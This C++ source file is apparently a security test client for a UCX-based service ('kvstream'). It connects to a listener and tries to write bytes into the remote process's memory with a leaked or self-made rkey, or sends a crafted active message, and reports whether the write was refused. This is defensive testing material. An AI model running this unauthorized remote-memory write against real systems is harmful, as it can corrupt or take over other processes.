// An attacker on the data plane: a UCX client written on ucp directly (no kvstream code), which
// connects to a UCX listener and tries to put bytes into the listening process.
//
//   ucx_raw_client <ip> <port> <client id, hex; 0 = random> <target address> <rkey hex | ->
//                  <bytes>
//   The put uses the packed rkey given (a leaked one), or, with "-", a key of this process's own
//   memory (over TCP, UCX writes to whatever address a put names). Then it flushes.
//   With "am:<header hex>" instead of a key it sends a data message (the UCX backend's active
//   message 18, rendezvous) of <bytes> bytes of 0xAB with that header (<target address> unused)
//   and waits for the send to complete.
//   stdout: "RESULT <UCX status of the flush>"; exit 0 when the attempt failed (refused),
//   1 when the flush succeeded (the bytes landed), 3 when nothing answered within 6 s,
//   2 on a usage or set-up error.
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/random.h>
#include <ucp/api/ucp.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

namespace {

std::string FromHex(const std::string& h) {
  std::string out;
  for (size_t i = 0; i + 1 < h.size(); i += 2) {
    out.push_back(static_cast<char>(std::strtoul(h.substr(i, 2).c_str(), nullptr, 16)));
  }
  return out;
}

ucs_status_t g_ep_error = UCS_OK;
void OnError(void*, ucp_ep_h, ucs_status_t status) { g_ep_error = status; }

int Fail(const char* what, ucs_status_t st) {
  std::fprintf(stderr, "ucx_raw_client: %s: %s\n", what, ucs_status_string(st));
  return 2;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc != 7) {
    std::fprintf(stderr, "usage: %s ip port client_id_hex target_addr rkey_hex|- bytes\n", argv[0]);
    return 2;
  }
  uint64_t client_id = std::strtoull(argv[3], nullptr, 16);
  while (client_id == 0) {
    if (getrandom(&client_id, sizeof(client_id), 0) != sizeof(client_id)) return 2;
  }
  const uint64_t target = std::strtoull(argv[4], nullptr, 0);
  const std::string rkey_arg = argv[5];
  const size_t bytes = std::strtoull(argv[6], nullptr, 10);

  ucp_params_t params{};
  params.field_mask = UCP_PARAM_FIELD_FEATURES;
  params.features = UCP_FEATURE_RMA | UCP_FEATURE_AM;
  ucp_context_h context;
  if (ucs_status_t st = ucp_init(&params, nullptr, &context); st != UCS_OK) return Fail("ucp_init", st);
  ucp_worker_params_t wp{};
  wp.field_mask = UCP_WORKER_PARAM_FIELD_THREAD_MODE | UCP_WORKER_PARAM_FIELD_CLIENT_ID;
  wp.thread_mode = UCS_THREAD_MODE_SINGLE;
  wp.client_id = client_id;
  ucp_worker_h worker;
  if (ucs_status_t st = ucp_worker_create(context, &wp, &worker); st != UCS_OK) {
    return Fail("ucp_worker_create", st);
  }

  sockaddr_storage sa{};
  socklen_t sa_len = 0;
  if (std::strchr(argv[1], ':') != nullptr) {
    auto* in6 = reinterpret_cast<sockaddr_in6*>(&sa);
    in6->sin6_family = AF_INET6;
    in6->sin6_port = htons(static_cast<uint16_t>(std::atoi(argv[2])));
    if (inet_pton(AF_INET6, argv[1], &in6->sin6_addr) != 1) return 2;
    sa_len = sizeof(*in6);
  } else {
    auto* in = reinterpret_cast<sockaddr_in*>(&sa);
    in->sin_family = AF_INET;
    in->sin_port = htons(static_cast<uint16_t>(std::atoi(argv[2])));
    if (inet_pton(AF_INET, argv[1], &in->sin_addr) != 1) return 2;
    sa_len = sizeof(*in);
  }
  ucp_ep_params_t ep_params{};
  ep_params.field_mask = UCP_EP_PARAM_FIELD_SOCK_ADDR | UCP_EP_PARAM_FIELD_FLAGS |
                         UCP_EP_PARAM_FIELD_ERR_HANDLING_MODE | UCP_EP_PARAM_FIELD_ERR_HANDLER;
  ep_params.flags = UCP_EP_PARAMS_FLAGS_CLIENT_SERVER | UCP_EP_PARAMS_FLAGS_SEND_CLIENT_ID;
  ep_params.sockaddr.addr = reinterpret_cast<const sockaddr*>(&sa);
  ep_params.sockaddr.addrlen = sa_len;
  ep_params.err_mode = UCP_ERR_HANDLING_MODE_PEER;
  ep_params.err_handler.cb = &OnError;
  ucp_ep_h ep;
  if (ucs_status_t st = ucp_ep_create(worker, &ep_params, &ep); st != UCS_OK) {
    std::printf("RESULT %s\n", ucs_status_string(st));
    return 0;  // refused before anything was sent
  }

  std::vector<char> source(bytes, '\xAB');
  if (rkey_arg.rfind("am:", 0) == 0) {
    const std::string header = FromHex(rkey_arg.substr(3));
    ucp_request_param_t ap{};
    ap.op_attr_mask = UCP_OP_ATTR_FIELD_FLAGS;
    ap.flags = UCP_AM_SEND_FLAG_RNDV;
    ucs_status_ptr_t send = ucp_am_send_nbx(ep, 18, header.data(), header.size(), source.data(),
                                            source.size(), &ap);
    ucs_status_t result = UCS_INPROGRESS;
    const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(6);
    while (std::chrono::steady_clock::now() < until) {
      ucp_worker_progress(worker);
      if (!UCS_PTR_IS_PTR(send)) {
        result = UCS_PTR_STATUS(send);
        break;
      }
      if (ucp_request_check_status(send) != UCS_INPROGRESS) {
        result = ucp_request_check_status(send);
        break;
      }
    }
    if (result == UCS_OK && g_ep_error != UCS_OK) result = g_ep_error;
    std::printf("RESULT %s\n", result == UCS_INPROGRESS ? "no answer" : ucs_status_string(result));
    std::fflush(stdout);
    std::_Exit(result == UCS_OK ? 1 : result == UCS_INPROGRESS ? 3 : 0);
  }
  // The key the put goes with: a leaked one, or one of our own memory.
  ucp_mem_map_params_t mp{};
  mp.field_mask = UCP_MEM_MAP_PARAM_FIELD_ADDRESS | UCP_MEM_MAP_PARAM_FIELD_LENGTH;
  mp.address = source.data();
  mp.length = source.size();
  ucp_mem_h memh;
  if (ucs_status_t st = ucp_mem_map(context, &mp, &memh); st != UCS_OK) return Fail("ucp_mem_map", st);
  std::string packed;
  if (rkey_arg == "-") {
    void* buf = nullptr;
    size_t len = 0;
    if (ucs_status_t st = ucp_rkey_pack(context, memh, &buf, &len); st != UCS_OK) {
      return Fail("ucp_rkey_pack", st);
    }
    packed.assign(static_cast<const char*>(buf), len);
    ucp_rkey_buffer_release(buf);
  } else {
    packed = FromHex(rkey_arg);
  }
  ucp_rkey_h rkey;
  if (ucs_status_t st = ucp_ep_rkey_unpack(ep, packed.data(), &rkey); st != UCS_OK) {
    return Fail("ucp_ep_rkey_unpack", st);
  }
  ucp_request_param_t rp{};
  ucs_status_ptr_t put = ucp_put_nbx(ep, source.data(), source.size(), target, rkey, &rp);
  ucs_status_ptr_t flush = ucp_ep_flush_nbx(ep, &rp);
  ucs_status_t result = UCS_INPROGRESS;
  const auto until = std::chrono::steady_clock::now() + std::chrono::seconds(6);
  while (std::chrono::steady_clock::now() < until) {
    ucp_worker_progress(worker);
    if (!UCS_PTR_IS_PTR(flush)) {
      result = UCS_PTR_STATUS(flush);
      break;
    }
    if (ucp_request_check_status(flush) != UCS_INPROGRESS) {
      result = ucp_request_check_status(flush);
      break;
    }
  }
  if (result == UCS_OK && g_ep_error != UCS_OK) result = g_ep_error;
  std::printf("RESULT %s\n", result == UCS_INPROGRESS ? "no answer" : ucs_status_string(result));
  std::fflush(stdout);
  // Exit without tearing UCX down: the outcome is printed, and a refused endpoint's close can
  // linger.
  (void)put;
  std::_Exit(result == UCS_OK ? 1 : result == UCS_INPROGRESS ? 3 : 0);
}
